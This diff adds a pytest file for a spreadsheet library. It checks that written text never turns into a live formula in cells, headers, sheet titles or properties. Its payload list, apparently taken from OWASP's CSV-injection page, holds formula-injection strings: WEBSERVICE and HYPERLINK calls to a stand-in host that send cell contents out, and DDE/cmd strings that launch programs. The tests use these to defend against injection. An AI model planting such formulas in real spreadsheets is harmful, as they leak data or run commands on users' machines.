@@ -1,0 +1,57 @@
+"""Whatever a vendor's report says, no cell, header, title or property becomes a formula."""
+
+import shutil
+from pathlib import Path
+
+import pytest
+from lxml import etree
+
+from billow.workbook import Cell, SheetLayout, Workbook
+from billow.workbook.cells import Formula
+from tests.workbook.making import calculated, template
+
+# from the OWASP page on CSV injection, and what spreadsheet programs are known to run
+PAYLOADS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", " =1+1", "'=1+1", '"=1+1"',
+    '=HYPERLINK("http://evil.example","click")', '=WEBSERVICE("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")", "http://evil.example", "=A1\x00", "{=1+1}", "_x003D_1+1", "-12.50", "+49 170",
+    "<f>1+1</f>", "]]><f>1+1</f>",
+)  # fmt: skip
+_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
+
+
+def live(path: Path, folder: Path) -> list[str]:
+    """Return the formulas that LibreOffice sees."""
+    tree = etree.parse(calculated(path, folder)).getroot()
+    return [cell.get(f"{_TABLE}formula", "") for cell in tree.iter() if cell.get(f"{_TABLE}formula")]
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
+def test_no_text_is_a_live_formula_for_libreoffice(tmp_path: Path) -> None:
+    path = template(tmp_path)
+    before = live(path, tmp_path / "before")
+    book = Workbook.open(path)
+    book.write("tblTodo", [{"Key": str(n), "What": text, "Kind": text} for n, text in enumerate(PAYLOADS)])
+    book.append("tblLog", [{"No": n, "Summary": text} for n, text in enumerate(PAYLOADS)])
+    book.set_cells({"Billow_Run": PAYLOADS[0]})
+    cells = tuple(Cell(row, 1, text, "invoice_line") for row, text in enumerate(PAYLOADS, start=1))
+    book.put_sheet("=1+1", SheetLayout(cells=cells, footer=f"&L{PAYLOADS[0]}"))
+    book.set_property("Billow register", "=1+1")
+    book.save()
+    assert sorted(live(path, tmp_path / "after")) == sorted(before)
+
+
+def test_texts_come_back_as_they_were(tmp_path: Path) -> None:
+    book = Workbook.open(template(tmp_path))
+    book.write("tblTodo", [{"Key": str(n), "What": text} for n, text in enumerate(PAYLOADS)])
+    book.save()
+    read = [row["What"] for row in Workbook.open(book.path).read("tblTodo")]
+    visible = [text.replace("\x00", "␀").replace("\r", "\n").strip() for text in PAYLOADS]
+    assert read == visible
+
+
+def test_a_text_given_as_the_value_of_a_formula_stays_a_text(tmp_path: Path) -> None:
+    book = Workbook.open(template(tmp_path))
+    book.write("tblProblems", [{"Key": "1", "Where": Formula('HYPERLINK("#Prices!A5","=1+1")', "=1+1")}])
+    (row,) = book.read("tblProblems")
+    assert row["Where"] == "=1+1"
